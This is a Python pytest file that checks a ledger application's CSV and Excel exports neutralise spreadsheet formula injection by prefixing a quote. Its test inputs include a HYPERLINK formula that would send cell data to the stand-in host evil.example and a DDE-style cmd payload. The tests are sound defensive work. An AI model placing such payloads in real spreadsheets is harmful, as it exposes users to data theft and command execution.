"""Promise: no exported cell runs as a formula.

Text in the ledger's CSV and in every sheet of its workbook (台账, the
summaries, 考核, 说明) that a spreadsheet would take for a formula — starting
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, such as a note
``=HYPERLINK(…)`` or a department named ``=HYPERLINK("x")局`` — is written with
a ``'`` in front, so it stays text when opened, edited or saved again. The
workbook downloaded from the dashboard is the same file.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from duban.domain.scorecard import Period
from duban.services.calendar.data import build_work_calendar
from duban.services.reports.ledger import build_ledger
from duban.services.reports.ledger_files import neutralise, write_ledger_csv, write_ledger_xlsx
from duban.services.reports.scorecard import scorecard_from_ledger
from duban.services.tasks import lifecycle
from models import Department
from tests.db.conftest import HEALTH, World, at

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NOTE = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
DEPARTMENT = '=HYPERLINK("x")局'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("完成 = 100%", "完成 = 100%"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_front(text: str, written: str) -> None:
    assert neutralise(text) == written


@pytest.fixture
def poisoned(world: World, session_factory: sessionmaker[Session]) -> World:
    """A report whose note is a formula, and a department whose name is one."""
    lifecycle.acknowledge(world.lead, department=HEALTH, now=at("2015-03-03"),
                          session_factory=session_factory)
    lifecycle.report(world.lead, department=HEALTH, note=NOTE, now=at("2015-04-01"),
                     session_factory=session_factory)
    with session_factory.begin() as session:
        session.execute(update(Department).where(Department.name == HEALTH)
                        .values(name=DEPARTMENT))
    return world


def _no_formula_in(book_bytes: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(book_bytes))
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (sheet.title, cell.value)
                    texts.add(cell.value)
    return texts


def test_the_csv_and_every_sheet_keep_formulas_as_text(
    poisoned: World, session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    calendar = build_work_calendar([])
    ledger = build_ledger(session_factory, as_of=date(2015, 6, 1), calendar=calendar)
    card = scorecard_from_ledger(ledger, period=Period(), calendar=calendar)
    texts = _no_formula_in(
        write_ledger_xlsx(ledger, tmp_path / "ledger.xlsx", scorecard=card).read_bytes()
    )
    assert f"'{NOTE}" in texts and f"'{DEPARTMENT}" in texts
    with write_ledger_csv(ledger, tmp_path / "ledger.csv").open(encoding="utf-8-sig") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{NOTE}" in cells and f"'{DEPARTMENT}" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]


def test_the_downloaded_workbook_keeps_them_as_text_too(
    poisoned: World, client: TestClient, login: Callable[[TestClient, str], str]
) -> None:
    login(client, "supervisor")
    response = client.get("/dashboard/ledger.xlsx")
    assert response.status_code == 200
    assert f"'{DEPARTMENT}" in _no_formula_in(response.content)
